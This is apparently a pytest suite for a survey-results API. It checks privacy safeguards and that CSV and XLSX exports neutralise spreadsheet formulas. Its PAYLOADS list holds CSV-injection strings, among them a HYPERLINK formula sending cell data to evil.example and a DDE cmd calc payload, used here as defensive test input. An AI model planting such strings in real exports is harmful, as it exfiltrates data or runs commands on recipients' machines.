"""What the results API gives away, and what it no longer does: releases, reasons, ids,
filtered item lists, another group's session, and spreadsheet formulas in exports."""

import csv
import io
import uuid

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from surveys.models import RespondentRole, Session, WorkingGroup
from tests.surveys.builders import build_survey
from tests.surveys.results_builders import DAY, add_responses, same

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


@pytest.fixture
def survey():
    return build_survey(working_group=WorkingGroup.objects.create(name="Ryhmä A"))


@pytest.fixture
def client(survey, django_user_model):
    user = django_user_model.objects.create_user(username="koordinaattori", password="x" * 12)
    survey.working_group.coordinators.add(user)
    client = APIClient()
    client.force_authenticate(user)
    return client


def _csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def test_results_wait_for_k_responses_and_say_how_many_more_are_needed(client, survey):
    add_responses(survey, same(3, answers={"attended": "every"}))
    body = client.get(f"/api/surveys/{survey.key}/results/?lang=en").json()
    assert body["respondents"] is None
    assert body["withheld"]["code"] == "waiting"
    assert body["waiting"] == {"responses_needed": 2, "releases": 0}
    add_responses(survey, same(2, answers={"attended": "every"}))
    body = client.get(f"/api/surveys/{survey.key}/results/").json()
    assert body["respondents"] == 5
    assert body["released"]["releases"] == [1]
    # One more submission changes nothing until four more arrive.
    add_responses(survey, same(1, answers={"attended": "some"}))
    again = client.get(f"/api/surveys/{survey.key}/results/").json()
    assert again["respondents"] == 5
    assert again["waiting"]["responses_needed"] == 4


def test_since_one_day_later_cannot_isolate_the_days_lone_respondent(client, survey):
    url = f"/api/surveys/{survey.key}/results/"
    add_responses(survey, same(9, answers={"attended": "every"}))
    client.get(url)  # the coordinator watches: release 1
    add_responses(survey, same(1, submitted_on=DAY.replace(day=3), answers={"attended": "some"}))
    client.get(url)
    add_responses(survey, same(4, submitted_on=DAY.replace(day=4), answers={"attended": "every"}))
    everyone = client.get(url).json()
    since_lone_day = client.get(url, {"since": DAY.replace(day=3).isoformat()}).json()
    since_next_day = client.get(url, {"since": DAY.replace(day=4).isoformat()}).json()
    assert everyone["respondents"] == 14
    # Both windows snap to release 2 (the lone respondent and the next day's four): the
    # difference that used to be one person is now nothing.
    assert since_lone_day["respondents"] == since_next_day["respondents"] == 5
    assert since_lone_day["released"]["releases"] == [2]


def test_reasons_are_in_the_users_language_and_hold_no_number(client, survey):
    add_responses(survey, same(6, answers={"attended": "every"}))
    add_responses(survey, same(2, role="professional", answers={"attended": "every"}))
    url = f"/api/surveys/{survey.key}/results/"
    for lang, word in (("fi", "vastaaj"), ("sv", "svarande"), ("en", "respondents")):
        body = client.get(url, {"role": "professional", "lang": lang}).json()
        assert body["withheld"]["code"] == "few"
        assert word in body["withheld"]["message"].lower()
        assert not any(ch.isdigit() for ch in body["withheld"]["message"])


def test_another_groups_session_is_refused_as_a_filter(client, survey):
    other = Session.objects.create(
        working_group=WorkingGroup.objects.create(name="Ryhmä B"), date=DAY, kind="meeting"
    )
    response = client.get(f"/api/surveys/{survey.key}/results/", {"session": other.pk})
    assert response.status_code == 400
    assert "session" in response.json()["errors"]


def test_comments_carry_random_ids_and_are_not_listed_under_a_respondent_filter(client, survey):
    rows = []
    for i in range(6):
        rows.append({"answers": {"one_word": f"sana {i}", "comments": f"kommentti {i}"}})
    add_responses(survey, rows)
    url = f"/api/surveys/{survey.key}/comments/"
    listed = client.get(url).json()
    assert listed["count"] == 12
    ids = [comment["id"] for comment in listed["results"]]
    assert all(uuid.UUID(value) for value in ids)
    # Not in the order of answering: one person's two comments are not side by side.
    order = [c["text"].split()[-1] + c["question"] for c in listed["results"]]
    assert order != sorted(order)
    filtered = client.get(url, {"role": "client", "lang": "en"}).json()
    assert filtered["results"] == [] and filtered["withheld"]["code"] == "items_filtered"


def test_a_filtered_responses_export_is_refused_with_an_explanation(client, survey):
    add_responses(survey, same(6, answers={"attended": "every"}))
    response = client.get(f"/api/surveys/{survey.key}/export/responses.csv?language=en&lang=en")
    assert response.status_code == 400
    assert "whole survey" in str(response.json())


def test_export_cells_never_become_formulas(client, survey):
    """OWASP's CSV injection payloads from a respondent and in a role label."""
    role = RespondentRole.objects.create(value="evil", label_fi=PAYLOADS[0], label_en=PAYLOADS[0])
    rows = [{"role": role.value, "answers": {"comments": text}} for text in PAYLOADS]
    rows += same(6, role=role.value, answers={"comments": "tavallinen", "meetings": 3})
    add_responses(survey, rows)
    exported = _csv(client.get(f"/api/surveys/{survey.key}/export/responses.csv"))
    comments = {row[exported[0].index("comments")] for row in exported[1:]}
    assert {"'" + text for text in PAYLOADS} <= comments
    results = _csv(client.get(f"/api/surveys/{survey.key}/export/results.csv?by=role"))
    labels = {row[results[0].index("group_label")] for row in results[1:]}
    assert "'" + PAYLOADS[0] in labels
    for cell in (cell for row in exported[1:] + results[1:] for cell in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r"))
        assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
    book = load_workbook(
        io.BytesIO(
            b"".join(
                client.get(f"/api/surveys/{survey.key}/export/responses.xlsx").streaming_content
            )
        )
    )
    sheet = book["responses"]
    header = [c.value for c in sheet[1]]
    cells = list(sheet.iter_rows(min_row=2))
    texts = [row[header.index("comments")] for row in cells]
    assert all(cell.data_type == "s" for cell in texts)
    assert {"'" + text for text in PAYLOADS} <= {cell.value for cell in texts}
    numbers = [row[header.index("meetings")].value for row in cells]
    assert 3 in numbers and all(n in (3, None, "") for n in numbers)
